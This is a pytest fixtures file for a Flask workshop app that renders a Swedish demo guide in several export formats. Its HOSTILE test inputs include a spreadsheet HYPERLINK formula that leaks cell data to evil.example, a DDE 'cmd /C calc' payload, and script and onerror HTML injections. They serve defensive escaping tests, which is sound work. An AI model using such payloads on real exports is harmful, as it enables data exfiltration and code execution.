"""Fixtures for the guide's formats: the Swedish demo workshop as pure domain state (no database),
a bare Flask app with Flask-Babel and the real translations, and each format rendered once."""
from __future__ import annotations

import dataclasses
from datetime import datetime, timezone
from pathlib import Path

import pytest
from flask import Flask
from flask_babel import Babel, force_locale

from workshop.demo_data import DEMO_WORKSHOP
from workshop.domain.editorial import WORKSHOP_SCOPE, theme_content, theme_scope, workshop_content
from workshop.domain.guide import build_guide
from workshop.domain.model import (Advice, Ballot, Item, Lane, Participant, Perspective, SupportProposal, Theme,
                                   WorkshopState)
from workshop.export import FORMATS

REPO = Path(__file__).resolve().parents[2]
# The demo's contributions as the guide counts them: a merged duplicate is part of its statement.
STATEMENTS = [e for e in DEMO_WORKSHOP["items"] if not e.get("duplicate_of")]
SV_PERSPECTIVES = (("buyer", "Upphandlare"), ("requester", "Beställande verksamhet"), ("end_user", "Slutanvändare"),
                   ("supplier", "Leverantör"), ("legal", "Jurist"), ("management", "Ledning"), ("other", "Annat"))
# Texts a participant could type to break out of each format.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    "+46 70 123 45 67 ringer ingen",
    "-2+3 timmar per vecka",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabb först",
    "<script>alert('x')</script> & <b>fet</b> **inte fet** # inte rubrik",
    "Styrt\x0b tecken\x00 mitt i",
)


def demo_editorial(data, themes: dict, keyed: dict) -> tuple:
    """The demo's editorial layer as the state carries it: (scope, content) per part."""
    words = data["editorial"]
    parts = [(WORKSHOP_SCOPE, workshop_content(words["conclusion"], words["next_steps"]))]
    for key, theme in words["themes"].items():
        support = theme.get("support") or {}
        proposal = data["proposals"][support["proposal"]] if "proposal" in support else None
        parts.append((theme_scope(themes[key]), theme_content(
            theme.get("synthesis", ""), [keyed[k] for k in theme.get("quotes", ())],
            proposal["type"] if proposal else None, proposal["description"] if proposal else "",
            support.get("owner", ""), support.get("due"), support["proposal"] + 1 if proposal else None)))
    return tuple(parts)


def demo_state(phase: str = "closed", language: str = "sv", hostile: bool = False,
               editorial: bool = False) -> WorkshopState:
    data = DEMO_WORKSHOP
    people = {p["key"]: n for n, p in enumerate(data["participants"], start=1)}
    perspective = {people[p["key"]]: p["perspective"] for p in data["participants"]}
    themes = {t["key"]: n for n, t in enumerate(data["themes"], start=1)}
    keyed = {e["key"]: n for n, e in enumerate(data["items"], start=1) if e.get("key")}
    items = [Item(n, e["lane"], e["text"], themes.get(e.get("theme")), people[e["participant"]],
                  merged_into=keyed.get(e.get("duplicate_of")))
             for n, e in enumerate(data["items"], start=1)]
    if hostile:
        items += [Item(500 + n, "challenge", text, 1, 1) for n, text in enumerate(HOSTILE)]
    return WorkshopState(
        code="6NTC4K", question=data["question"], language=language, template="think-tank", phase=phase,
        created_at=datetime(2026, 11, 22, 9, 0, tzinfo=timezone.utc), organiser=data["organiser"],
        lanes=(Lane("challenge", "Utmaning"), Lane("success_factor", "Framgångsfaktor")),
        perspectives=tuple(Perspective(k, v) for k, v in SV_PERSPECTIVES),
        participants=tuple(Participant(n, perspective[n], None) for n in perspective),
        items=tuple(items),
        themes=tuple(Theme(n, t["name"] + (" <i>&amp;</i>" if hostile and n == 2 else ""), n - 1)
                     for n, t in enumerate(data["themes"], start=1)),
        ballots=tuple(Ballot(people[k], perspective[people[k]], {themes[t]: d for t, d in b.items()})
                      for k, b in data["ballots"].items()),
        advice=tuple(Advice(n, people[k], text, perspective[people[k]])
                     for n, (k, text) in enumerate(data["advice"].items(), start=1))
        + ((Advice(99, 1, "=1+1 <img src=x onerror=alert(1)>"),) if hostile else ()),
        editorial=demo_editorial(data, themes, keyed) if editorial else (),
        proposals=tuple(SupportProposal(n, themes[e["theme"]], e["type"], e["description"], e["who_needs"],
                                        perspective[people[e["participant"]]])
                        for n, e in enumerate(data.get("proposals", ()), start=1)),
    )


@pytest.fixture(scope="session")
def guide_app():
    app = Flask(__name__, template_folder=str(REPO / "templates"))
    Babel(app, default_translation_directories=str(REPO / "workshop" / "translations"))
    return app


def render(app, fmt: str, state: WorkshopState):
    with app.app_context(), force_locale(state.language):
        return FORMATS[fmt][1](build_guide(state))


@pytest.fixture(scope="session")
def rendered(guide_app):
    """Each format of the closed Swedish demo guide with hostile contributions, rendered once."""
    cache = {}

    def get(fmt: str, **options):
        key = (fmt, tuple(sorted(options.items())))
        if key not in cache:
            cache[key] = render(guide_app, fmt, demo_state(**{"hostile": True, **options}))
        return cache[key]
    return get


def replace(state: WorkshopState, **changes) -> WorkshopState:
    return dataclasses.replace(state, **changes)
